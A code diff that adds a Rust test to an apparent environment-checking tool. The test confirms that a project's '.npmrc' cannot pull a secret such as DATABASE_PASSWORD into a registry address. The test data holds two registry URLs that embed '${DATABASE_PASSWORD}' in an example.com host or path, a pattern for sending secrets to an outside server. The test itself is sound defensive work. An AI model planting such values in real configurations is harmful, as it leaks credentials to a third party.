@@ -186,3 +186,19 @@ fn every_kind_of_key_that_doctor_knows_is_hidden_wherever_it_is_printed() {
     let address = services.make_up("GET https://api.telegram.org/bot<key:telegram/bot>/getMe").unwrap();
     assert_eq!(scrub::text(&address), "GET https://api.telegram.org/bot[hidden]/getMe");
 }
+
+/// npm fills variables into addresses, so a stranger's `.npmrc` can ask for any of them in the name of a server of his.
+#[test]
+fn a_projects_settings_of_npm_bring_no_variable_into_an_address() {
+    let mut machine = Machine::new();
+    machine.program("node", "echo v24.1.0");
+    machine.program("npm", "echo 11.0.0");
+    machine.set("DATABASE_PASSWORD", &marked("db"));
+    machine.file("site/package.json", "{}", 0o644);
+    for registry in ["https://x-${DATABASE_PASSWORD}.example.com/", "https://example.com/${DATABASE_PASSWORD}/"] {
+        machine.file("site/.npmrc", format!("registry={registry}\n"), 0o644);
+        let run = machine.doctor(&["--format", "json", "check", "tool/npm-registry", "tool/npm-downloads"]);
+        assert!(!run.stdout.contains("zqzqzq"), "{registry}: {}", run.stdout);
+        assert!(run.stdout.contains("site/.npmrc"), "{registry}: {}", run.stdout);
+    }
+}
